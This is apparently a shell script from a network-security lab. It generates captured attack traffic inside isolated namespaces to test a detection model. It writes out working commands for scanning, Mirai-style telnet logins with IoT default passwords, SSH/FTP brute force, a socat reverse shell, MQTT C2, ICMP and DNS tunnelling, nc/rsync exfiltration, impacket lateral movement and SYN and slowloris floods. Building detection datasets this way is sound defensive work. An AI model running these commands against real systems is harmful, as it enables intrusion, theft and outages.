# Sourced by gen-attacks.sh for `--only fresh`: the "fresh tools" attack set, made with tools and techniques
# the behaviour model was never tuned on (issue 12's hidden benchmark has "attacks and tooling nobody on the
# team has seen"; this is our honest stand-in for it). Same lab, same rules: every tool under `timeout`,
# every loop bounded, nothing leaves the namespaces. Uses cap(), ns(), PIDS, W, NET, ATT_*, VIC_* of gen-attacks.sh.
#
# New in the lab for these: a routed "internet" 10.128.0.0/9 behind the victim (the attacker's route to it
# goes via 10.66.0.20, so frames to it carry the victim's MAC as a gateway's, and most targets never answer);
# build.ts injects such captures with peer "wan": every 10.128/9 address becomes a public address.

# FRESH_IDS=id1,id2 regenerates only those (index lines of the others are kept).
fcap() { [ -z "${FRESH_IDS:-}" ] || [[ ",$FRESH_IDS," == *",$1,"* ]] || return 0; cap "$@"; }

FRESH_WAN=10.128.0.0/9
ns att ip route add "$FRESH_WAN" via "$VIC_IP"
# A few "internet hosts" that answer (telnet prompts, RSTs on closed ports): addresses on the victim's lo.
for a in 10.128.3.7 10.128.9.9 10.128.12.40; do ns vic ip addr add "$a/32" dev lo; done
# A second and third victim address: a resolver that knows no TLD (DGA lookups get NXDOMAIN) and dns2tcpd.
DGA_IP=$NET.21 D2T_IP=$NET.22
ns vic ip addr add "$DGA_IP/24" dev eth0
ns vic ip addr add "$D2T_IP/24" dev eth0

# ---------- fresh victim services ----------
ns vic $PY "$HERE/victim-telnetd.py" "$VIC_IP:23" 10.128.3.7:23 10.128.12.40:23 10.128.9.9:2323 &
PIDS+=($!)
cat > "$W/mosquitto.conf" <<EOF
listener 1883 $VIC_IP
allow_anonymous true
persistence false
log_dest none
user root
EOF
ns vic mosquitto -c "$W/mosquitto.conf" >"$W/mosquitto.log" 2>&1 &
PIDS+=($!)
mkdir -p "$W/rsync-up"
cat > "$W/rsyncd.conf" <<EOF
pid file = $W/rsyncd.pid
use chroot = no
[backup]
  path = $W/rsync-up
  read only = no
  uid = root
  gid = root
EOF
ns vic rsync --daemon --no-detach --config="$W/rsyncd.conf" --address="$VIC_IP" --port=873 >"$W/rsyncd.log" 2>&1 &
PIDS+=($!)
ns vic timeout 900 bash -c "nc -l -k $VIC_IP 9001 >/dev/null" &
PIDS+=($!)
ns vic /usr/sbin/dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address="$DGA_IP" --port=53 \
  --local=/com/net/org/info/biz/ru/top/xyz/ --pid-file="$W/dnsmasq-dga.pid" --user=root 2>"$W/dnsmasq-dga.log" &
PIDS+=($!)
cat > "$W/dns2tcpd.conf" <<EOF
listen = $D2T_IP
port = 53
user = root
domain = dn.example.test
resources = ssh:$VIC_IP:22
EOF
ns vic dns2tcpd -F -f "$W/dns2tcpd.conf" >"$W/dns2tcpd.log" 2>&1 &
PIDS+=($!)
sleep 2

if [ "$ONLY" = fresh-quiet ]; then
  source "$HERE/gen-fresh-quiet.sh"
  return 0
fi

# word lists (bounded, deterministic)
printf 'root\nadmin\nsupport\nuser\n' > "$W/iot-users.txt"
printf 'xc3511\nvizxv\nadmin\n888888\nxmhdipc\ndefault\njuantech\n123456\n54321\nsupport\n12345\npass\n' > "$W/iot-pw.txt"
[ -f "$W/loot12.bin" ] || head -c 12000000 /dev/urandom > "$W/loot12.bin"
SSHO=(-i "$W/ssh/client" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=4)
export NET VIC_IP ATT_IP W DGA_IP

# ---------- scan ----------
CAP_WAN=$FRESH_WAN fcap fr-scan-masscan-wan scan masscan attacker wan false 90 \
  masscan 10.128.0.0/20 -p23,2323,80,8080,7547,5555 --rate 1500 --wait 3 --seed 7 \
  --adapter eth0 --adapter-ip "$ATT_IP" --adapter-mac "$ATT_MAC" --router-mac "$VIC_MAC"
fcap fr-scan-hping-fin-xmas scan hping3-fin-xmas attacker lan false 90 bash -c \
  "hping3 -q -F -p ++1 -c 300 -i u10000 $VIC_IP; for h in 31 32 33; do hping3 -q -F -P -U -p ++1 -c 100 -i u10000 $NET.\$h; done"
# Mirai-style: SYNs to random internet addresses on 23 (and some 2323), then factory-default logins on the
# few that answered.
cat > "$W/fr-mirai.sh" <<'EOS'
hping3 -q -S -p 23 --rand-dest -I eth0 -i u3000 -c 2500 10.128.x.x
hping3 -q -S -p 2323 --rand-dest -I eth0 -i u3000 -c 300 10.128.x.x
for t in 10.128.3.7:23 10.128.12.40:23 10.128.9.9:2323; do
  while read -r u p; do
    { sleep 0.6; printf '%s\r\n' "$u"; sleep 0.4; printf '%s\r\n' "$p"; sleep 0.8; } | timeout 4 nc "${t%:*}" "${t#*:}" >/dev/null 2>&1
  done <<EOC
root xc3511
root vizxv
admin admin
root 888888
root default
support support
EOC
done
EOS
CAP_WAN=$FRESH_WAN fcap fr-scan-mirai-telnet scan hping3-rand-dest+nc-telnet attacker wan false 120 bash "$W/fr-mirai.sh"

# ---------- credential ----------
fcap fr-cred-ncrack-ssh credential ncrack-ssh attacker,victim public false 120 \
  ncrack -T4 -g cl=4,CL=4,at=6 -U "$W/users3.txt" -P "$W/pw30.txt" "ssh://$VIC_IP:22"
fcap fr-cred-patator-ftp credential patator-ftp attacker,victim public false 120 \
  patator ftp_login host="$VIC_IP" user=FILE0 password=FILE1 0="$W/users3.txt" 1="$W/pw30.txt" -t 6 \
  -x ignore:mesg='Login incorrect.'
fcap fr-cred-patator-telnet credential patator-telnet attacker,victim public false 150 \
  patator telnet_login host="$VIC_IP" inputs='FILE0\nFILE1' 0="$W/iot-users.txt" 1="$W/iot-pw.txt" \
  prompt_re='login:|Password:' persistent=0 timeout=5 -t 4 -x ignore:fgrep='Login incorrect'

# ---------- c2 ----------
# Reverse shell: the device connects out to 4444 and an operator types commands (a character at a time)
# into an interactive shell; its output comes back in small, irregular packets.
cat > "$W/fr-operator.sh" <<'EOS'
typ() { local s="$1" i; for ((i = 0; i < ${#s}; i++)); do printf '%s' "${s:i:1}"; sleep 0.0$((RANDOM % 9 + 1)); done; printf '\n'; }
sleep 2
for c in 'id' 'uname -a' 'cat /etc/os-release' 'ls -la /tmp | head -20' 'ps aux | head -25' 'ip -4 addr' \
  'cat /proc/cpuinfo | head -20' 'head -c 30000 /dev/urandom | base64 | head -c 40000' 'df -h' 'exit'; do
  typ "$c"; sleep $((RANDOM % 5 + 3))
done
sleep 2
EOS
ns vic timeout 150 bash -c "bash $W/fr-operator.sh | socat TCP-LISTEN:4444,bind=$VIC_IP,reuseaddr STDIO >/dev/null" &
PIDS+=($!)
sleep 1
fcap fr-c2-socat-revshell c2 socat-reverse-shell attacker public false 130 \
  socat "TCP:$VIC_IP:4444,connect-timeout=5" "EXEC:env HISTFILE=/dev/null bash --norc --noprofile -i,pty,stderr,setsid,sigint,sane"
# MQTT to a foreign broker: a bot keeps a subscription to its command topic and publishes state.
cat > "$W/fr-mqtt.sh" <<'EOS'
mosquitto_sub -h "$VIC_IP" -i bot7f3a-cmd -t 'dev/7f3a/cmd' -k 30 -W 100 >/dev/null &
for i in $(seq 1 35); do
  mosquitto_pub -h "$VIC_IP" -i bot7f3a -t dev/7f3a/state -m "{\"id\":\"7f3a\",\"seq\":$i,\"up\":$((i * 3)),\"jobs\":$((RANDOM % 4))}"
  sleep $(awk -v s=$RANDOM 'BEGIN{srand(s);printf "%.2f", 1.5+rand()*2.5}')
done
wait
EOS
ns vic timeout 110 bash -c "sleep 10; for i in 1 2 3 4 5; do mosquitto_pub -h $VIC_IP -t dev/7f3a/cmd -m \"task \$i \$(head -c 40 /dev/urandom | base64 -w0)\"; sleep 15; done" &
PIDS+=($!)
fcap fr-c2-mqtt-foreign-broker c2 mosquitto-pub-sub attacker public false 120 bash "$W/fr-mqtt.sh"
# ICMP tunnel: ptunnel-ng carries an ssh session (commands and a 400 kB download) in echo requests/replies.
ns vic sysctl -qw net.ipv4.icmp_echo_ignore_all=1
ns vic timeout 150 ptunnel-ng -r"$VIC_IP" -R22 -v0 -o"$W/ptunnel-proxy.log" >/dev/null 2>&1 &
PIDS+=($!)
sleep 1
cat > "$W/fr-ptunnel.sh" <<'EOS'
ptunnel-ng -p"$VIC_IP" -l2222 -r"$VIC_IP" -R22 -v0 -o"$W/ptunnel-client.log" >/dev/null 2>&1 & P=$!
sleep 2
ssh -p 2222 -i "$W/ssh/client" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
  root@127.0.0.1 'id; uname -a; head -c 400000 /dev/urandom' >/dev/null
sleep 3
kill $P
EOS
fcap fr-c2-ptunnel-icmp c2 ptunnel-ng attacker public false 120 bash "$W/fr-ptunnel.sh"
ns vic sysctl -qw net.ipv4.icmp_echo_ignore_all=0
# DGA: lookups of random names under common TLDs until one resolves (none does: NXDOMAIN).
cat > "$W/fr-dga.sh" <<'EOS'
tlds=(com net org info biz ru top xyz)
for i in $(seq 1 150); do
  n=$(head -c 16 /dev/urandom | base32 | tr -dc 'a-z2-7' | tr 'A-Z' 'a-z' | head -c $((10 + RANDOM % 7)))
  [ -n "$n" ] || n=$(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' \n')
  host -W 1 -t A "$n.${tlds[RANDOM % 8]}" "$DGA_IP" >/dev/null 2>&1
  sleep 0.3
done
EOS
CAP_VIC_IP=$DGA_IP fcap fr-c2-dga-nxdomain c2 dga-host attacker public false 150 bash "$W/fr-dga.sh"

# ---------- dnstunnel ----------
cat > "$W/fr-dns2tcp.sh" <<'EOS'
dns2tcpc -z dn.example.test -l 2223 -r ssh "$D2T_IP" >/dev/null 2>&1 & P=$!
sleep 2
ssh -p 2223 -i "$W/ssh/client" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
  root@127.0.0.1 'id; uname -a; head -c 60000 /dev/urandom' >/dev/null
sleep 2
kill $P
EOS
export D2T_IP
CAP_VIC_IP=$D2T_IP fcap fr-dns-dns2tcp dnstunnel dns2tcp attacker public false 150 bash "$W/fr-dns2tcp.sh"

# ---------- exfil ----------
fcap fr-exfil-rsync-daemon exfil rsync-daemon attacker public false 120 \
  rsync -a --timeout=30 "$W/loot12.bin" "$W/share/config.ini" "rsync://$VIC_IP/backup/"
fcap fr-exfil-nc-9001 exfil nc-odd-port attacker public false 120 bash -c \
  "for i in \$(seq 1 8); do head -c 2000000 /dev/urandom | timeout 20 nc -N $VIC_IP 9001; sleep 2; done"

# ---------- lateral ----------
fcap fr-lat-rpcclient lateral rpcclient attacker lan false 90 bash -c \
  "for h in 20 31 32; do timeout 20 rpcclient -U '' -N $NET.\$h -c 'srvinfo;enumdomusers;netshareenumall;lsaquery;querydominfo' || true; done"
# Debian ships only some impacket examples as impacket-* commands; the others are in the package's examples.
IEX=/usr/share/doc/python3-impacket/examples
fcap fr-lat-impacket-exec lateral impacket-wmiexec-psexec-smbexec-lookupsid attacker lan false 120 bash -c \
  "timeout 20 impacket-wmiexec -no-pass guest@$VIC_IP whoami; timeout 20 $PY $IEX/psexec.py -no-pass guest@$VIC_IP whoami; timeout 20 $PY $IEX/smbexec.py -no-pass guest@$VIC_IP </dev/null; timeout 20 $PY $IEX/lookupsid.py -no-pass guest@$VIC_IP 300; true"
fcap fr-lat-ssh-pivot lateral ssh-lan-pivot attacker lan false 90 bash -c \
  "for h in 20 31 32 33 34; do ssh ${SSHO[*]} root@$NET.\$h 'uname -a; id; cat /etc/hostname' || true; done; head -c 2000000 /dev/urandom > $W/dropper.bin; scp ${SSHO[*]} $W/dropper.bin root@$VIC_IP:$W/upload/.x; ssh ${SSHO[*]} root@$VIC_IP 'ls -la $W/upload | head -5'"

# ---------- dos ----------
fcap fr-dos-hping-synflood dos hping3-syn-flood attacker,victim public false 60 \
  hping3 -q -S -p 80 -i u400 -c 25000 "$VIC_IP"
fcap fr-dos-slowloris dos slowhttptest attacker,victim public false 90 \
  slowhttptest -c 250 -H -i 8 -r 80 -t GET -u "http://$VIC_IP/" -x 24 -p 3 -l 60
